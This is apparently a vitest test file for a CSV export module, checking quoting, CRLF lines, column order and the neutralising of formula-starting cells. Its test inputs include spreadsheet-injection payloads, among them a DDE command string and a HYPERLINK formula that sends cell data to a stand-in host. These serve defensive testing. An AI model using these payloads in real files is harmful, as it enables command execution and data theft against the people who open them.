import { existsSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { cell, csv } from '../../src/evidence/csv.ts';
import { fileIn, packOf, paper } from './witnessed.ts';

const text = (pieces: Iterable<string>): string => [...pieces].join('');

describe('a cell', () => {
  it.each([['tracker.test', '"tracker.test"'], ['https://a.test/?a=1', '"https://a.test/?a=1"'], ['192.0.2.1', '"192.0.2.1"'], ['2001:db8::7', '"2001:db8::7"'], ['AT&T, Inc.', '"AT&T, Inc."'], ['', '""']])(
    '%s stays what it is', (value, expected) => expect(cell(value)).toBe(expected));

  it('with a number is a number', () => expect(cell(12)).toBe('12'));

  it.each(['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', ' =1', '\n=1', '\u00a0=1', '=HYPERLINK("http://a.example/?"&A1,"x")', "=cmd|' /C calc'!A0", '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff201', '-'])('%j begins no formula', (value) => {
    expect(cell(value)).toMatch(/^"'/);
    expect(Papa.parse<string[]>(`${cell(value)}\r\n`).data[0]).toHaveLength(1);
  });

  it('hides nothing and breaks no line', () => {
    expect(cell('a\u202emoc.elgoog\nb\u0000')).toBe('"a\\u{202e}moc.elgoog\\u{a}b\\u{0}"');
  });
});

describe('a table', () => {
  it('has a byte-order mark, and CRLF after every line', () => {
    expect(text(csv(['a', 'b'], [['x', 1]]))).toBe('\ufeff"a","b"\r\n"x",1\r\n');
  });

  it('is read back as it was written', () => {
    const rows = [['say "no"', 'a,b', 'a;b', "it's"], ['', ' ', '%3D1', 'é']];
    expect(Papa.parse<string[]>(text(csv(['1', '2', '3', '4'], rows)).replace('\ufeff', ''), { skipEmptyLines: true }).data.slice(1)).toEqual(rows);
  });

  it('of contacts and of findings has as many cells in each row as names', () => {
    const pack = packOf({ visits: [paper()] }, 'full');
    for (const [name, rows] of [['contacts.csv', 4], ['findings.csv', 3]] as const) {
      const { data, errors } = Papa.parse<string[]>(fileIn(pack, name).replace('\ufeff', ''), { skipEmptyLines: true });
      expect(errors).toEqual([]);
      expect(data.length).toBeGreaterThan(rows);
      expect(new Set(data.map(({ length }) => length)).size, name).toBe(1);
    }
  });

  it('tells a contact with its company, place and counts', () => {
    const { data } = Papa.parse<Record<string, string>>(fileIn(packOf({ visits: [paper()] }, 'full'), 'contacts.csv').replace('\ufeff', ''), { header: true, skipEmptyLines: true });
    expect(data.find(({ host }) => host === 'cdn.tracker.test')).toMatchObject({
      visit: '1', third_party: 'yes', company: 'Trackco', category: 'advertising', country: 'US', certainty: 'probable', asn: '64501', addresses: '192.0.2.1; 2001:db8::7',
      requests: '4', answered: '4', unencrypted: '0', first_utc: '2026-11-15T15:04:05.100Z',
    });
  });
});

describe('docs/evidence.md', () => {
  const text = readFileSync('docs/evidence.md', 'utf8');
  const pack = packOf({ visits: [paper()] }, 'full');

  it.each(['contacts.csv', 'findings.csv'])('tells the columns of %s, in their order', (name) => {
    const paragraph = text.split('\n\n').find((one) => one.startsWith(`\`${name}\`: `)) ?? '';
    const told = [...paragraph.slice(name.length + 4).matchAll(/`([a-z_]+)`/g)].map(([, column]) => column).filter((column) => column !== 'history');
    expect(told).toEqual(Papa.parse<string[]>(fileIn(pack, name).replace('\ufeff', '')).data[0]);
  });

  it('tells every file', () => {
    expect([...text.matchAll(/^\| `([\w.]+)` \|/gm)].map(([, name]) => name).slice(0, 8).sort()).toEqual(pack?.files.map(({ name }) => name).sort());
  });
});

const vectors = join(resolve(process.env['TESTIGO_CORPORA'] ?? '../shared/corpora'), 'hostile/csv-injection.json');

describe('cells written to attack spreadsheets', () => {
  if (!existsSync(vectors)) {
    console.warn(`\nNOT CHECKED: there are no cells at ${vectors}. Set TESTIGO_CORPORA to check them.\n`);
    it('the folder named by TESTIGO_CORPORA holds them', () => expect(process.env['TESTIGO_CORPORA']).toBeUndefined());
    return;
  }
  const cells = JSON.parse(readFileSync(vectors, 'utf8')) as { cell: string; expect: string }[];
  it.each(cells)('$cell: $expect', ({ cell: value, expect: wanted }) => {
    const written = cell(value);
    const [read = ''] = Papa.parse<string[]>(written).data[0] ?? [];
    if (/left as is|^"a,b"|stays inert/.test(wanted)) return expect(read).toBe(value);
    expect(written).toMatch(/^".*"$/);
    expect(written).not.toMatch(/[\r\n\t]/);
    expect(read).not.toMatch(/^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
  });
});
